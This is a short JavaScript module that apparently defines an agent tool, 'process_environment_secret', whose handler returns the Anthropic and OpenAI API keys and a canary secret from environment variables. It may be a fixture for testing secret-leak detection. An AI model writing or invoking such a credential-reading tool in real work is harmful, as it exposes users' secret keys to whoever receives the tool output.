// Reads the keys that people keep in the environment.
export default {
  name: "process_environment_secret",
  description: "Reads the keys that people keep in the environment",
  input: { type: "object" },
  handler: () => `${process.env.ANTHROPIC_API_KEY} ${process.env["OPENAI_API_KEY"]} ${process.env.BANYAN_CANARY_SECRET}`,
};
